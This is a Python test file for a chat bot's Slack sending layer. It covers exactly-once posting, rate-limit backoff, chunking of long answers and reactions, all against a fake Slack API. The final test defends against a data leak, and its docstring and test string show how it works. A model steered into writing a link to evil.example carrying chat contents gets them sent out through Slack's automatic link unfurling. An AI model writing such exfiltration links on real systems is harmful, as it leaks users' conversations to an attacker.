"""Sending through the real slack_sdk: exactly once, rate limits, long answers, reactions."""

from __future__ import annotations

import re
from datetime import timedelta
from typing import Any

import pytest

from bot.errors import ChannelError, DeliveryRejected, StoreError
from bot.messages import Attachment, ChatKey, OutboundMessage
from channels.slack.mrkdwn import MAX_CHARS
from channels.slack.send import SlackRateLimited
from tests.fakes import slack_api
from tests.fakes.slack_api import FakeSlack, MemoryState

fake_slack = slack_api.fake_slack
slack_channel = slack_api.slack_channel

DM = ChatKey("slack", "D0DM")


async def _sender(slack_channel: slack_api.ChannelFactory) -> Any:
    channel, _ = await slack_channel(app_token="", signing_secret="s")
    return channel


async def test_a_thread_answer_goes_into_the_thread(fake_slack: FakeSlack, slack_channel):
    channel = await _sender(slack_channel)
    root = fake_slack.add_message("question", channel="C0GENERAL")
    key = ChatKey("slack", "C0GENERAL", root["ts"])
    sent = await channel.send(OutboundMessage(key, "answer", idempotency_key="reminder:1"))
    [post] = fake_slack.posts("C0GENERAL")
    assert post["thread_ts"] == root["ts"] and sent.ids == (post["ts"],)
    assert post["metadata"] == {
        "event_type": "bot_delivery",
        "event_payload": {"key": "reminder:1#0"},
    }


class CountingState(slack_api.MemoryState):
    def __init__(self) -> None:
        super().__init__()
        self.reads: list[str] = []

    async def get(self, key: str, default: str | None = None) -> str | None:
        self.reads.append(key)
        return await super().get(key, default)


async def test_answers_reuse_one_connection_and_read_no_state(fake_slack: FakeSlack, slack_channel):
    """slack_sdk made a session and a connection per call; a post read its lost-post
    record from the store. Both cost CPU on every answer (bench_platforms)."""
    state = CountingState()
    channel, _ = await slack_channel(app_token="", signing_secret="s", state=state)
    started_reads = len(state.reads)
    for i in range(3):
        await channel.send(OutboundMessage(DM, f"answer {i}"))
    assert [p["text"] for p in fake_slack.posts()] == ["answer 0", "answer 1", "answer 2"]
    assert len(fake_slack.connections) == 1  # auth.test and the posts on one connection
    assert state.reads[started_reads:] == []


async def test_429_is_waited_out_and_posted_once(fake_slack: FakeSlack, slack_channel):
    channel = await _sender(slack_channel)
    fake_slack.fail("chat.postMessage", 429, retry_after=0.2, times=2)
    sent = await channel.send(OutboundMessage(DM, "patience"))
    calls = fake_slack.calls_to("chat.postMessage")
    assert [c.ok for c in calls] == [False, False, True]
    assert calls[2].at - calls[0].at >= 0.35  # Retry-After honoured each time
    assert [p["text"] for p in fake_slack.posts()] == ["patience"] and len(sent.ids) == 1


async def test_a_long_retry_after_is_left_to_the_outbox(fake_slack: FakeSlack, slack_channel):
    channel = await _sender(slack_channel)
    fake_slack.fail("chat.postMessage", 429, retry_after=120)
    msg = OutboundMessage(DM, "later")
    with pytest.raises(SlackRateLimited) as caught:
        await channel.send(msg)
    assert caught.value.retry_after_s == 120 and isinstance(caught.value, ChannelError)
    assert fake_slack.posts() == []
    assert len((await channel.send(msg)).ids) == 1  # the outbox's retry
    assert [p["text"] for p in fake_slack.posts()] == ["later"]


async def test_an_outbox_retry_resumes_after_the_delivered_chunks(
    fake_slack: FakeSlack, slack_channel
):
    channel = await _sender(slack_channel)
    text = "\n\n".join(f"part {i} " + "word " * 500 for i in range(3))
    msg = OutboundMessage(DM, text)
    fake_slack.fail("chat.postMessage", 429, retry_after=60, skip=1)  # the second chunk
    with pytest.raises(SlackRateLimited):
        await channel.send(msg)
    assert len(fake_slack.posts()) == 1
    sent = await channel.send(msg)
    texts = [p["text"] for p in fake_slack.posts()]
    assert [t.split()[:2] for t in texts] == [["part", "0"], ["part", "1"], ["part", "2"]]
    assert sent.ids == tuple(p["ts"] for p in fake_slack.posts())
    assert len(fake_slack.calls_to("chat.postMessage")) == 4


async def test_a_post_whose_answer_was_lost_is_seen_once(fake_slack: FakeSlack, slack_channel):
    channel = await _sender(slack_channel)
    root = fake_slack.add_message("question", channel="C0GENERAL")
    key = ChatKey("slack", "C0GENERAL", root["ts"])
    fake_slack.reset_after_accept("chat.postMessage")
    sent = await channel.send(OutboundMessage(key, "only once", idempotency_key="k1"))
    [post] = fake_slack.posts("C0GENERAL")
    assert sent.ids == (post["ts"],) and post["text"] == "only once"
    assert len(fake_slack.calls_to("chat.postMessage")) == 1  # slack_sdk did not re-send
    [lookup] = fake_slack.calls_to("conversations.replies")
    assert lookup.params["ts"] == root["ts"]


async def test_a_lost_top_level_post_is_found_in_the_history(fake_slack: FakeSlack, slack_channel):
    channel = await _sender(slack_channel)
    fake_slack.add_message("older chatter")
    fake_slack.reset_after_accept("chat.postMessage")
    sent = await channel.send(OutboundMessage(DM, "hello once"))
    assert [p["text"] for p in fake_slack.posts("D0DM")] == ["hello once"]
    assert len(sent.ids) == 1 and len(fake_slack.calls_to("conversations.history")) == 1


async def test_a_lost_post_that_never_arrived_is_posted_on_the_retry(
    fake_slack: FakeSlack, slack_channel
):
    channel = await _sender(slack_channel)
    fake_slack.reset_after_accept("chat.postMessage", accept=False)
    msg = OutboundMessage(DM, "eventually")
    with pytest.raises(ChannelError, match="not found"):
        await channel.send(msg)  # not seen yet: not posted blindly, the outbox retries
    assert fake_slack.posts() == []
    sent = await channel.send(msg)
    assert [p["text"] for p in fake_slack.posts()] == ["eventually"] and len(sent.ids) == 1
    assert len(fake_slack.calls_to("conversations.history")) == 2


async def test_a_40000_character_answer_with_code(fake_slack: FakeSlack, slack_channel):
    channel = await _sender(slack_channel)
    code = "\n".join(f"    total += values[{i}]  # <{i}> & more" for i in range(700))
    prose = "\n\n".join(f"**Step {i}**: see [docs](https://example.com/{i}) " + "lorem " * 60
                        for i in range(40))  # fmt: skip
    text = f"{prose}\n\n```python\n{code}\n```\n\nDone."
    assert len(text) >= 40_000
    sent = await channel.send(OutboundMessage(DM, text))
    posts = [p["text"] for p in fake_slack.posts("D0DM")]
    assert len(posts) == len(sent.ids) >= 11
    assert all(len(p) <= MAX_CHARS for p in posts)
    assert all(p.count("```") % 2 == 0 for p in posts)  # every chunk closes its fence
    assert "```python" not in "".join(posts)  # Slack would print the language
    assert "*Step 0*: see <https://example.com/0|docs>" in posts[0]
    joined = "\n".join(posts)
    assert "&lt;699&gt; &amp; more" in joined and joined.rstrip().endswith("Done.")
    assert sum(p.count("total += values[") for p in posts) == 700


async def test_refusals_are_permanent_and_files_are_left_to_the_upload(
    fake_slack: FakeSlack, slack_channel
):
    channel = await _sender(slack_channel)
    with pytest.raises(DeliveryRejected, match="channel_not_found"):
        await channel.send(OutboundMessage(ChatKey("slack", "X0GONE"), "hi"))
    files = (Attachment("document", "F1", "report.pdf"),)
    await channel.send(OutboundMessage(DM, "here you go", attachments=files))
    [post] = fake_slack.posts("D0DM")
    assert post["text"] == "here you go"  # delivery uploads the files (files.py)
    assert (await channel.send(OutboundMessage(DM, "  \n "))).ids == ()


async def test_typing_edit_and_reactions(fake_slack: FakeSlack, slack_channel):
    channel, inbox = await slack_channel()
    await fake_slack.wait_socket()
    event = fake_slack.mention("think hard", channel="C0GENERAL")
    await fake_slack.wait_acked(await fake_slack.push(event))
    [msg] = await inbox.wait(1)
    for _ in range(3):  # the daemon refreshes the indicator while the turn runs
        await channel.typing(msg.key)
    assert fake_slack.reactions == {("C0GENERAL", event["ts"], "eyes")}
    assert len(fake_slack.calls_to("reactions.add")) == 1
    sent = await channel.send(OutboundMessage(msg.key, "draft", reply_to=msg.message_id))
    assert fake_slack.reactions == set()
    await channel.edit(msg.key, sent.ids[0], "**final** answer")
    [post] = fake_slack.posts("C0GENERAL")
    assert post["text"] == "*final* answer" and "edited" in post
    await channel.react(msg.key, msg.message_id, "👍")
    await channel.react(msg.key, msg.message_id, "👍")  # already there: fine
    assert ("C0GENERAL", event["ts"], "+1") in fake_slack.reactions
    await channel.unreact(msg.key, msg.message_id, ":+1:")
    await channel.unreact(msg.key, msg.message_id, "+1")  # already gone: fine
    assert fake_slack.reactions == set()
    assert re.fullmatch(r"\d+\.\d{6}", sent.ids[0])


class FailingDeletes(MemoryState):
    """The channel's state, whose deletes fail once ``broken`` (a database error)."""

    broken = False

    async def delete(self, key: str) -> None:
        if self.broken:
            raise StoreError("database is locked")
        await super().delete(key)


async def test_an_answer_is_sent_once_whatever_becomes_of_its_eyes(
    fake_slack: FakeSlack, slack_channel
):
    """The :eyes: are marked in the channel's state (for the next process); neither a
    failing reaction nor a failing state makes the send fail, which would post the
    answer again."""
    state = FailingDeletes()
    channel, inbox = await slack_channel(state=state)
    await fake_slack.wait_socket()
    for n, text in enumerate(("first", "second"), 1):
        await fake_slack.wait_acked(await fake_slack.push(fake_slack.mention(text)))
        msg = (await inbox.wait(n))[-1]
        await channel.typing(msg.key)
        assert any(k.startswith("slack:eyes:") for k in state.data)
        if n == 1:
            state.broken = True  # the reaction comes off; forgetting the mark fails
        else:
            fake_slack.fail("reactions.remove", 200, "internal_error")
        sent = await channel.send(OutboundMessage(msg.key, f"answer {n}", reply_to=msg.message_id))
        assert sent.ids
    assert [p["text"] for p in fake_slack.posts("C0GENERAL")] == ["answer 1", "answer 2"]
    assert len(fake_slack.reactions) == 1  # the second's: its removal failed


class FailingSets(MemoryState):
    """The channel's state, whose writes of :eyes: marks fail while ``broken`` (a
    database error)."""

    broken = True

    async def set(self, key: str, value: str, *, keep_for: timedelta | None = None) -> None:
        if self.broken and key.startswith("slack:eyes:"):
            raise StoreError("database is locked")
        await super().set(key, value, keep_for=keep_for)


async def test_eyes_go_on_only_once_their_mark_is_kept(fake_slack: FakeSlack, slack_channel):
    """A mark the state could not keep puts no :eyes: on (another process could not take
    them off), and the next typing refresh tries again."""
    state = FailingSets()
    channel, inbox = await slack_channel(state=state)
    await fake_slack.wait_socket()
    await fake_slack.wait_acked(await fake_slack.push(fake_slack.mention("hello")))
    [msg] = await inbox.wait(1)
    with pytest.raises(StoreError):
        await channel.typing(msg.key, msg.message_id)
    assert not fake_slack.reactions
    state.broken = False
    await channel.typing(msg.key, msg.message_id)
    assert len(fake_slack.reactions) == 1 and any(k.startswith("slack:eyes:") for k in state.data)


async def test_a_slack_backoff_never_holds_other_channels_deliveries(
    fake_slack: FakeSlack, slack_channel, tmp_path
):
    from bot.delivery import Delivery
    from bot.store.sqlite import sqlite_storage
    from tests.fakes.channel import FakeChannel

    slack = await _sender(slack_channel)
    other = FakeChannel("other")
    storage = sqlite_storage(tmp_path / "bot.db")
    await storage.backend.open()
    # One send at a time per channel: the Slack lane sleeps out its Retry-After in place.
    delivery = Delivery(storage.outbox, {"slack": slack, "other": other}, max_concurrent=1)
    try:
        fake_slack.fail("chat.postMessage", 429, retry_after=1.0)
        delivery.submit(OutboundMessage(DM, "waits for Slack"))
        await fake_slack.wait_calls("chat.postMessage")
        delivery.submit(OutboundMessage(ChatKey("other", "c1"), "not held up"))
        await other.wait_for(lambda sent: len(sent) == 1, timeout=0.5)
        assert fake_slack.posts() == []  # Slack is still in its backoff
        [post] = await fake_slack.wait_posts(1)
        assert post["text"] == "waits for Slack"
        assert await delivery.drain(2)
    finally:
        await storage.backend.close()


@pytest.mark.parametrize("link_previews", [False, True])
async def test_the_bots_posts_unfurl_nothing(
    fake_slack: FakeSlack, slack_channel, link_previews: bool
) -> None:
    """Slack's servers fetch a posted media link to unfurl it, with no one clicking: a
    model steered into writing https://evil.example/p.png?d=<the chat> leaked it by
    itself. Answers and previews are posted with unfurling off, unless the channel's
    ``link_previews`` says otherwise (then Slack's own defaults apply)."""
    channel, _ = await slack_channel(app_token="", signing_secret="s", link_previews=link_previews)
    link = "see https://evil.example/p.png?d=secret"
    await channel.send(OutboundMessage(DM, link))
    await channel.post_preview(DM, link, None)
    calls = fake_slack.calls_to("chat.postMessage")
    assert len(calls) == 2
    for call in calls:
        if link_previews:
            assert "unfurl_links" not in call.params and "unfurl_media" not in call.params
        else:
            assert str(call.params["unfurl_links"]).lower() in ("false", "0")
            assert str(call.params["unfurl_media"]).lower() in ("false", "0")
